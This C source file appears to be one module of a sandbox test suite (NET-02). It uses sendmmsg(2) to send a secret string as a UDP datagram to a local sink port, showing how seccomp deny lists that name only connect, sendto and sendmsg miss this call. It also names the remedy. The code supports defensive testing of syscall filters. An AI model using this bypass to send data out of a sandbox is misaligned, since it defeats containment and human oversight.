// SPDX-License-Identifier: MIT
/*
 * Goal:  bytes reach the attacker's host.
 * Means: sendmmsg(2) sends datagrams to addresses that stand behind two pointers, where a filter of
 *        arguments cannot look; deny lists that name connect, sendto and sendmsg forget it.
 */
#include "attacks/attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>

static enum claim run(const struct brief *b)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons((in_port_t)b->sink),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct iovec secret = { (void *)b->secret, strlen(b->secret) };
	struct mmsghdr letter = { .msg_hdr = { .msg_name = &to,
					       .msg_namelen = sizeof(to),
					       .msg_iov = &secret,
					       .msg_iovlen = 1 } };
	int fd;

	attempting(b);
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return denied("socket");
	if (sendmmsg(fd, &letter, 1, 0) < 0)
		return denied("sendmmsg");
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "bytes reach the attacker's host",
	.means = "sendmmsg(2): the address stands behind two pointers, and lists forget the call",
	.oracle = "sink",
	.id = "NET-02",
	.attack_id = "T1048, CWE-184",
	.remedy = "seccomp without socket(2), datagrams included; a network namespace",
	.refs = (const char *const[]){ "sendmmsg(2)", NULL },
	.run = run,
};
